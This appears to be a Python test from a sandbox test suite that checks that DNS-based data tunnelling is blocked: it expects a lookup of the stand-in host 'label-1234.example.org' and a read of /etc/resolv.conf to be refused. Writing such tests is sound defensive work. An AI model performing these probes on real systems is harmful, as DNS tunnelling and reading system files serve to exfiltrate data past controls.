"""Tunnel data out in DNS queries."""

# expect: ok
import socket

from attack import done, refused

refused("dns", lambda: socket.getaddrinfo("label-1234.example.org", 80))
refused("resolver", lambda: open("/etc/resolv.conf").read())
done()
